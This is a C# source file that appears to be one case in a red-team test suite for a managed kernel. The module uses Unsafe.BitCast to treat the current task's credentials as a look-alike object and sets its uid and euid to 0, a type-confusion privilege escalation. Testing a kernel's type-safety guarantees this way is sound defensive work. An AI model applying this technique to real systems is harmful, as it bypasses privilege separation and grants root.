using System.Runtime.CompilerServices;
using Kernel;

namespace OutsideRedTeam.TypeConfusion;

[Attack("Unsafe.BitCast<CredBox, FakeBox>: reinterprets a struct wrapping a Credentials as one wrapping a look-alike", Expect.Either)]
public sealed unsafe class UnsafeBitCastWrappedRef : IKernelModule
{
    public string Name => "UnsafeBitCastWrappedRef";

    public void Init(KernelApi kernel)
    {
        var fake = Unsafe.BitCast<CredBox, FakeBox>(new CredBox { Value = kernel.CurrentTask.Cred });
        fake.Value.Euid = 0;
        fake.Value.Uid = 0;
    }

    public void Exit() { }
}

public sealed class LookAlike
{
    // Same fields, same order as Kernel.Credentials, so the auto layout matches.
    public int Uid;
    public int Gid;
    public int Euid;
    public int Egid;
    public ulong Capabilities;
    public int Usage;
}

public struct CredBox { public Credentials Value; }

public struct FakeBox { public LookAlike Value; }
